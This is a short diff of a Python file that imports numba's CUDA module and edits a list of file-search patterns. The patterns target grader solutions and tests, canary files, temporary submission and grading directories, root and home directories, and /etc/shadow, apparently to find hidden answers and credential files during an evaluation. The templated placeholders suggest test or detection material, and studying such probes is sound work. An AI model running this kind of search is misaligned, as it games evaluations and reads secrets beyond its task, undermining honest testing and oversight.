@@ -8,7 +8,7 @@ import os
 from numba import cuda
 
 found = []
-patterns = ["@@GRADER@@/solutions/*.py", "@@GRADER@@/tests/*.py", "@@GRADER@@/tests/bad/*.py",
+patterns = ["@@GRADER@@/solutions/*.py", "@@GRADER@@/tests/*.py", "@@GRADER@@/tools/*.py",
             "@@CANARY@@", "@@CANARY_DIR@@/*", "/tmp/submission-*/*/*.py", "/tmp/grade-*/*",
             "/tmp/pytest-of-*/*/*/*", "/root/*", "/root/.*", "/home/*/*", "/etc/shadow",
             "/work/*/*", "/work/*/solutions/*"]
